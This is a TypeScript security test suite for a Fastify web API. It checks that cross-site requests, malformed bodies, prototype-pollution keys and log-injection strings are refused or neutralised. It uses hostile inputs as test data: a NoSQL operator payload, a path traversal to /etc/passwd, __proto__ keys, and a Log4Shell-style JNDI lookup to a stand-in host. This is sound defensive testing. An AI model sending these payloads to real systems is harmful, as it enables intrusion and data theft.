import { Writable } from 'node:stream';
import { CALLS } from '@assay/contract/calls.ts';
import { openTestSite, type TestSite } from '@assay/testkit/app.ts';
import { buildUser } from '@assay/testkit/build/user.ts';
import Fastify from 'fastify';
import { pino } from 'pino';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { buildApp } from '../../app.ts';
import { bindHeaders, STRANGERS_FILE_POLICY } from './headers.ts';

let site: TestSite;
beforeAll(async () => {
  site = await openTestSite();
});
afterAll(() => site.close());

const changing = CALLS.filter((op) => op.method !== 'GET' || op.name.toLowerCase().includes('logout'));

test('T-CSRF-1 a foreign page changes nothing: its requests carry no token, and are refused by their mark', async () => {
  const user = await buildUser(site);
  expect(changing.length).toBeGreaterThan(20);
  for (const op of changing) {
    if (op.access === 'judge') continue;
    for (const contentType of ['text/plain', 'application/x-www-form-urlencoded']) {
      const answer = await site.app.inject({
        method: op.method,
        url: op.path,
        headers: {
          'sec-fetch-site': 'cross-site',
          origin: 'https://evil.example',
          cookie: `token=${user.token}; authorization=${user.token}`,
          ...(op.method === 'GET' ? {} : { 'content-type': contentType }),
        },
        ...(op.method === 'GET' ? {} : { payload: 'a=b' }),
      });
      expect([op.name, answer.statusCode, answer.json().data.code]).toEqual([op.name, 403, 'request.crossSite']);
    }
  }
});

test('T-CSRF-1 without the mark of a browser the missing token refuses, cookies count for nothing', async () => {
  const user = await buildUser(site);
  for (const op of changing.filter(({ access }) => access !== 'anyone')) {
    const answer = await site.app.inject({
      method: op.method,
      url: op.path,
      headers: { cookie: `token=${user.token}` },
    });
    expect([op.name, answer.statusCode]).toEqual([op.name, 401]);
  }
});

test.each(['https://evil.example', 'null', 'https://sub.evil.example', 'http://localhost:3000'])(
  'T-CORS-1 the origin %s gets no leave',
  async (origin) => {
    for (const method of ['GET', 'OPTIONS'] as const) {
      const answer = await site.app.inject({ method, url: '/api/get-website-config', headers: { origin } });
      const allowed = Object.keys(answer.headers).filter((name) => name.startsWith('access-control-'));
      expect(allowed).toEqual([]);
    }
  },
);

test('T-LEAK-1 fifty malformed requests get short answers without anything of the inside', async () => {
  const user = await buildUser(site);
  const bodies = ['{', '[]', 'null', '"x"', '{"username":{"$gt":""}}', `{"a":${'['.repeat(5000)}`, '\u0000', '1e999'];
  const queries = [
    "'",
    '%00',
    '%',
    'limit[]=1',
    'currentPage=abc',
    'tp=9',
    'id=1e3',
    'id=-1',
    'id=99999999999999999999',
  ];
  const requests = [
    ...bodies.flatMap((payload) =>
      ['/api/login', '/api/register', '/api/change-userInfo', '/api/solve-slide-puzzle'].map((url) => ({
        method: 'POST' as const,
        url,
        payload,
      })),
    ),
    ...queries.flatMap((query) =>
      ['/api/get-recent-seven-ac-rank', '/api/get-register-code'].map((url) => ({
        method: 'GET' as const,
        url: `${url}?${query}`,
      })),
    ),
    { method: 'POST' as const, url: '/api/login', payload: `"${'x'.repeat(2_000_000)}"` },
    { method: 'GET' as const, url: '/api/%' },
    { method: 'GET' as const, url: '/api/../../etc/passwd' },
  ];
  expect(requests.length).toBeGreaterThanOrEqual(50);
  for (const request of requests) {
    const headers = { 'content-type': 'application/json', authorization: user.token };
    const answer = await site.app.inject({ ...request, headers: request.method === 'POST' ? headers : {} });
    expect([request.url, answer.statusCode < 500]).toEqual([request.url, true]);
    expect(answer.body).not.toMatch(
      /\bat .*:\d+:\d+|node_modules|\/src\/|select |insert |postgres|kysely|fastify|FST_/i,
    );
    expect(answer.body.length).toBeLessThan(1_000);
    expect(answer.headers).not.toHaveProperty('server');
    expect(answer.headers).not.toHaveProperty('x-powered-by');
  }
});

test('T-PP-1 keys that would reach a prototype are ignored', async () => {
  const payload = '{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}},"username":"a","password":"b"}';
  const headers = { 'content-type': 'application/json' };
  const answer = await site.app.inject({ method: 'POST', url: '/api/login?__proto__[x]=1', payload, headers });
  expect(answer.statusCode).toBe(400);
  expect(answer.json().data.code).toBe('account.badCredentials');
  expect(({} as { x?: number }).x).toBeUndefined();
});

test('T-LOG-1 lines stay lines, and no password, token or code is in them', async () => {
  const lines: string[] = [];
  const sink = new Writable({
    write(chunk, _encoding, done) {
      lines.push(...String(chunk).split('\n').filter(Boolean));
      done();
    },
  });
  const app = await buildApp({ ...site.services, log: pino({ level: 'debug' }, sink) });
  const user = await buildUser(site);
  const headers = { authorization: user.token, 'user-agent': `\u001b[31m ${'$'}{jndi:ldap://evil}` };
  await app.inject({ method: 'GET', url: '/api/get-user-auth-info', headers });
  await app.inject({ method: 'GET', url: '/api/get-register-code?email=secret%40example.org&code=424242' });
  await app.inject({
    method: 'POST',
    url: '/api/login',
    headers,
    payload: { username: 'evil\n{"level":60}\u001b[2J', password: 'hunter-22-secret' },
  });
  await app.inject({ method: 'GET', url: '/api/%0a%1b[31mfake' });
  await app.close();
  const all = lines.join('\n');
  expect(lines.length).toBeGreaterThanOrEqual(4);
  for (const line of lines) expect(() => JSON.parse(line)).not.toThrow();
  for (const secret of [user.token, 'secret@example.org', 'secret%40', '424242', 'hunter-22-secret', '\u001b']) {
    expect(all).not.toContain(secret);
  }
  expect(all).toContain('"requestId":"');
});

test('T-CACHE-1 answers of one viewer are kept by no shared cache', async () => {
  const user = await buildUser(site);
  const answer = await site.app.inject({ url: '/api/get-user-auth-info', headers: { authorization: user.token } });
  expect(answer.headers['cache-control']).toBe('private, no-store');
  expect(answer.headers.vary).toContain('Authorization');
});

test('a file has a head to ask for, what is written for the one who asks has none', async () => {
  const heads = CALLS.filter((op) => op.method === 'GET' && site.app.hasRoute({ method: 'HEAD', url: op.path }));
  expect(heads).toEqual(CALLS.filter((op) => op.method === 'GET' && op.answer === 'file'));
  expect(heads.length).toBeGreaterThan(0);
  expect((await site.app.inject({ method: 'HEAD', url: '/api/get-website-config' })).statusCode).toBe(404);
});

test('headers that ask to be believed are warned of once while no proxy is declared', async () => {
  const warnings = async (env: Record<string, string>) => {
    const lines: string[] = [];
    const own = await openTestSite(env);
    try {
      const stream = new Writable({ write: (chunk, _encoding, done) => done(void lines.push(String(chunk))) });
      const app = await buildApp({ ...own.services, log: pino({ level: 'warn' }, stream) });
      for (const header of ['x-forwarded-for', 'forwarded', 'x-forwarded-for']) {
        await app.inject({ url: '/healthz', headers: { [header]: '203.0.113.9' } });
      }
      await app.close();
      return lines.filter((line) => line.includes('TRUST_PROXY'));
    } finally {
      await own.close();
    }
  };
  expect(await warnings({})).toHaveLength(1);
  expect(await warnings({ TRUST_PROXY: '127.0.0.1' })).toHaveLength(0);
});

test('a stricter policy of a handler stays', async () => {
  const app = Fastify();
  bindHeaders(app, { drawingUrl: undefined });
  app.get('/', (_request, reply) => reply.header('content-security-policy', STRANGERS_FILE_POLICY).send('x'));
  expect((await app.inject('/')).headers['content-security-policy']).toBe(STRANGERS_FILE_POLICY);
  expect((await app.inject('/x')).headers['content-security-policy']).toContain("script-src 'self'");
  await app.close();
});

test('what is served beside the calls is limited by address, liveness and the web app are not', async () => {
  const narrow = await openTestSite({ RATE_LIMIT_SCALE: '0.001', METRICS_TOKEN: 'a-token-for-figures' });
  try {
    const ask = (url: string, remoteAddress: string) => narrow.app.inject({ url, remoteAddress });
    const hash = '0'.repeat(64);
    for (const url of [
      '/api/docs',
      '/api/openapi.json',
      '/readyz',
      '/metrics',
      `/api/public/img/${hash}.webp`,
      `/api/public/problem-file/${hash}/a.png`,
    ]) {
      const flood = await Promise.all(Array.from({ length: 12 }, () => ask(url, '10.8.0.1')));
      expect([url, flood.some(({ statusCode }) => statusCode === 429)]).toEqual([url, true]);
      expect([url, (await ask(url, '10.8.0.2')).statusCode]).not.toEqual([url, 429]);
      narrow.clock.advance(61);
    }
    const pulses = await Promise.all(Array.from({ length: 50 }, () => ask('/healthz', '10.8.0.1')));
    expect(pulses.every(({ statusCode }) => statusCode === 200)).toBe(true);
  } finally {
    await narrow.close();
  }
});
